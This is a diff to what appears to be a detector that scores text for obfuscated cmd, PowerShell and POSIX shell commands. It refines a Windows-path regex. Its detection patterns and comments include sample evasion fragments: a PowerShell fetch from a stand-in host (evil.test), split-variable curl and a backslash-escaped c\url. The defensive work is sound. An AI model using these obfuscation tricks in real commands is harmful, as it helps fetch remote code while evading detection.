@@ -36,7 +36,9 @@ _CMD_STAGING = re2.compile(r"\bset\s+\"?[a-z_]\w*=[^&\n]*&[^\n]*[%!][a-z_]")
 _ECHO_SCRIPT = re2.compile(r"\becho\b[^\n]*>>?\s*\S*\.(?:vbs|vbe|jse?|wsf|hta|bat|cmd|ps1)\b")
 _SH_ASSIGN = re.compile(r"(?:^|[;&|\s])[a-z_][a-z0-9_]{0,30}=[^=\s]")
 _SH_ESCAPE = re.compile(r"[a-z]\\[a-z]")
-_WINDOWS_PATH = re.compile(r"[a-z]:\\|\\\\|%\\|\\(?:windows|users|system32|temp)\b")
+_WINDOWS_PATH = re.compile(
+    r"[a-z]:\\|\\\\|%\\|\\(?:windows|users|system32|temp)\b|\$env:[a-z_][a-z0-9_]{0,40}\\"
+)
 _DOT_SOURCE = re.compile(r"(?:^|[;|&{(]|\n)\s{0,4}\.\s{0,2}\(")
 _PS_ASSIGN = re.compile(r"\$[a-z_][a-z0-9_]{0,30}\s{0,4}=")
 
@@ -80,7 +82,9 @@ def scores(low: str) -> dict[str, int]:
     if "$" in low and _PS_ASSIGN.search(low):
         found["powershell"] += 1  # $h='evil.test'; irm "https://$h/"
     if "\\" in low and _SH_ESCAPE.search(low) and not _WINDOWS_PATH.search(low):
-        found["posix"] += 1  # c\url: a backslash inside a word, in a text with no Windows path
+        # c\url: a backslash inside a word, in a text with no Windows path (C:\, %TEMP%\,
+        # $env:TEMP\: those are PowerShell's or cmd's, and a shell reading of them is noise)
+        found["posix"] += 1
     if "$" in low and _SH_ASSIGN.search(low):
         found["posix"] += 1  # a=cu;b=rl;$a$b
     return found
